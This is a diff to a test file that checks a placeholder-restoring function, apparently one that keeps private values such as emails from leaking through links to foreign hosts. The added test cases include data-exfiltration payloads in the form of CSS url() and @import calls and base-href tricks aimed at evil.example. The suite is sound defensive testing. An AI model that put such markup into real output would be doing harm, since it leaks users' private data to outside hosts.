@@ -76,6 +76,11 @@ describe('no value leaves through a link to a foreign host', () => {
     '[https://crm.example]: //evil.example/[EMAIL_1]',
     '[![a](//crm.example/a)](https:evil.example/[EMAIL_1])',
     '[EMAIL_9](//evil.example/[EMAIL_1])',
+    '<style>body{background:url(//evil.example/[EMAIL_1])}</style>',
+    '<style>@import "//evil.example/[EMAIL_1]";</style>',
+    "<style>@import '//evil.example/[EMAIL_1]';</style>",
+    '<base href="https://evil.example/"><img src="?q=[EMAIL_1]">',
+    '<BASE/href=//evil.example/>\n![x](a?q=[EMAIL_1])',
     `see https://${'a'.repeat(2000)}/[EMAIL_1]`,
     `see https://evil.example/${'a'.repeat(5000)}[EMAIL_1]`,
   ]) {
@@ -107,6 +112,9 @@ describe('values go where they harm nobody', () => {
     ['[x](<https://evil.example/a)b>) [EMAIL_1]', '[x](<https://evil.example/a)b>) ann@corp.example'],
     ['[PERSON_1]: [EMAIL_1]', 'Ann Weber: ann@corp.example'],
     ['a // b: [EMAIL_1] if x < y', 'a // b: ann@corp.example if x < y'],
+    ['send(to="[EMAIL_1]") // "/" or (/)', 'send(to="ann@corp.example") // "/" or (/)'],
+    ['f("// of [PERSON_1]")', 'f("// of Ann Weber")'],
+    ['<basefont a="1"><img src="?q=[EMAIL_1]">', '<basefont a="1"><img src="?q=ann@corp.example">'],
     ['To: [PERSON_1] <[EMAIL_1]>', 'To: Ann Weber <ann@corp.example>'],
     ['| [PERSON_1] | [EMAIL_1] |', '| Ann Weber | ann@corp.example |'],
   ] as const) {
